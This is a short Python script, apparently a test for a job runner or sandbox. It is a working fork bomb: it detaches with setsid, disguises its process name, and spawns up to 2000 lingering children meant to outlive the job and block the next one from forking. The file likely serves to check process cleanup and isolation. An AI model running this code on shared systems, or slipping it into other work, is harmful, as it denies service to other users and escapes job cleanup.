# what: A fork bomb whose children outlive the job, hoping the next job cannot fork.
import ctypes
import os
import time

ctypes.CDLL(None).prctl(15, b"xjob-bomb", 0, 0, 0)
if os.fork() == 0:
    os.setsid()
    for _ in range(2000):
        try:
            if os.fork() == 0:
                while True:
                    time.sleep(1)
        except OSError:
            time.sleep(0.01)
    while True:
        time.sleep(1)
time.sleep(2)
print("bomb started")
